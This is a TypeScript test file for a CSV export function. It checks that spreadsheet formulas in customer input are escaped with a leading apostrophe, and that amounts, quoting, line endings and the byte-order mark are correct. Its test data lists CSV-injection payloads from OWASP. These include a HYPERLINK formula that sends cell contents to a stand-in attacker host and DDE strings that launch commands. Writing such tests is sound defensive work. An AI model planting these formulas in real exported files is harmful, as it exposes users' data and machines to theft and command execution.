/** How spreadsheets read our files: customers' input stays text, and amounts are numbers. */
import { expect, test } from 'vitest';
import { csvStream } from './csv.ts';

const textOf = async (rows: (string | number | null)[][]): Promise<string> => {
  async function* batches() {
    for (const row of rows) yield [row];
  }
  const pieces = await Array.fromAsync(
    csvStream({ fileName: 'x.csv', head: ['a', 'b'], batches: batches() }),
  );
  return Buffer.concat(pieces).toString('utf8');
};

/**
 * Text that spreadsheets take for a formula: OWASP's list, and the full-width signs that some of them accept.
 */
const formulas = [
  '=HYPERLINK("https://evil.example?x="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3+cmd|calc',
  '@SUM(1+1)*cmd|calc',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
];

test('a cell that would be a formula starts with an apostrophe, also within quotes', async () => {
  for (const formula of formulas) {
    const [, line = ''] = (await textOf([[formula, 1]])).split(/\r\n(?=.)/);
    expect(line.replace(/^"/, '').startsWith(`'${formula.slice(0, 1)}`), JSON.stringify(formula)).toBe(true);
  }
});

test('money stays a number, also negative; lines end as on Windows; the file starts with a UTF-8 mark', async () => {
  expect(
    await textOf([
      ['Müller, "Ama"', -12.5],
      ['two\nlines', null],
    ]),
  ).toBe('\ufeffa,b\r\n"Müller, ""Ama""",-12.5\r\n"two\nlines",\r\n');
});
